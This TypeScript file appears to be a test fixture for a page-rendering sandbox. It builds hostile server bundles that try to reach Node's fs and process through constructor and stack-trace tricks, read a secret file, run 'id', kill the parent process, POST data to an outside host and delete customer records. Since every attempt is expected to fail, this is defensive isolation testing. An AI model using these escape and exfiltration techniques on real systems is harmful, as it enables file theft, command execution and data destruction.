/** All ways for a bundle to reach Node.js, even when the first layer has removed some. */
const reach = `
  const ways = {
    process: () => process.getBuiltinModule('node:fs'),
    global: () => globalThis.process.binding('fs'),
    require: () => require('node:fs'),
    constructor: () => (function () {}).constructor('return process')().mainModule.require('fs'),
    console: () => console._stdout.constructor,
    frames: () => {
      const prepare = Error.prepareStackTrace;
      Error.prepareStackTrace = (_, frames) => frames.map((frame) => frame.getThis()).find((self) => self?.process);
      const self = new Error().stack;
      Error.prepareStackTrace = prepare;
      return self.process.getBuiltinModule('node:fs');
    },
    timers: () => setTimeout(() => {}, 0).constructor.constructor('return process')(),
    context: () => fetch.constructor('return process')(),
  };
`;

/** A server bundle of a host whose pages say what its attack got. @param body of an asynchronous function */
export const attackingBundle = (body: string) => `
  ${reach}
  exports.sharedModules = {};
  exports.render = async () => {
    const got = await (async () => { ${body} })();
    return { status: 200, head: '', body: 'got: ' + JSON.stringify(got ?? null), state: '{}', payloadId: 'hydration-payload', screens: [] };
  };
`;

const through = (use: string) => `
  const got = {};
  for (const [name, way] of Object.entries(ways)) {
    try { const found = await way(); got[name] = ${use}; } catch (error) { got[name] = 'no'; }
  }
  return Object.values(got).filter((one) => one !== 'no');
`;

interface Targets {
  /** Origin that answers and is not the site's data service. */
  readonly outside: string;
  /** Path of a file of the machine. */
  readonly secret: string;
  readonly data: string;
}

/**
 * Ways out of the process that renders pages, as bodies for `attackingBundle`. Each returns a list of its gains, which
 * must be empty, or throws.
 */
export const waysOut = ({ outside, secret, data }: Targets) => ({
  env: `return Object.keys(process.env).filter((name) => name !== 'NODE_ENV').concat(Object.keys(process).filter((name) => name !== 'env'));`,
  read: through(`found.readFileSync(${JSON.stringify(secret)}, 'utf8')`),
  write: through(`found.writeFileSync(${JSON.stringify(`${secret}.written`)}, 'x') ?? 'written'`),
  spawn: through(
    `found.process?.getBuiltinModule('child_process').execSync('id').toString() ?? found.spawnSync('id')`,
  ),
  'kill the parent': through(`found.kill?.(found.ppid, 'SIGKILL') ?? 'killed'`),
  worker: `return [typeof Worker, typeof SharedWorker, typeof BroadcastChannel, typeof MessageChannel].filter((type) => type !== 'undefined');`,
  socket: `return [typeof WebSocket, typeof EventSource, typeof XMLHttpRequest].filter((type) => type !== 'undefined');`,
  fetch: `return [(await fetch(${JSON.stringify(`${outside}/taken`)}, { method: 'POST', body: 'data' })).status];`,
  'write to the data service': `return [(await fetch('${data}/rest/v1/customers', { method: 'DELETE' })).status];`,
  'a file of the data service': `return [(await fetch('${data}/storage/v1/object/x')).status];`,
  import: `return Object.keys(await import('node:fs'));`,
  'import by eval': `return Object.keys(await (0, eval)("import('node:fs')"));`,
});
